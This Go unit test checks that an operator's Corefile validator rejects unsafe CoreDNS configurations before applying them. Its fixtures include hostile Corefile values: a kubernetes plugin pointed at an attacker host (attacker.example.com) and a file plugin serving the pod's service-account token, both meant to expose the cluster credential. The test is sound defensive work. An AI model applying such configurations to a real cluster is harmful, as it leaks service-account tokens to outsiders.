package app

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"k8s.io/kops/pkg/model/components/coredns"
)

// The operator checks the Corefile of its instructions as kops's validation does: one that reaches
// CoreDNS's token (the kubernetes plugin pointed at another API server, a file of the pod) is
// refused before anything is applied, whoever wrote it into the CoreDNS object.
func TestCheckCorefile(t *testing.T) {
	assert.NoError(t, checkCorefile(Spec{Corefile: coredns.Corefile(nil)}), "kops's own")
	for name, text := range map[string]string{
		"kubeconfig": ".:53 {\n    kubernetes cluster.local {\n        kubeconfig /var/run/secrets/kubernetes.io/serviceaccount/kubeconfig ctx\n    }\n}\n",
		"endpoint":   ".:53 {\n    kubernetes cluster.local {\n        endpoint https://attacker.example.com\n    }\n}\n",
		"a pod file": ".:53 {\n    file /var/run/secrets/kubernetes.io/serviceaccount/token example.com\n}\n",
		"not a file": ".:53 {\n    forward . 8.8.8.8\n",
	} {
		t.Run(name, func(t *testing.T) {
			assert.ErrorContains(t, checkCorefile(Spec{Corefile: text}), "spec.corefile")
		})
	}
}
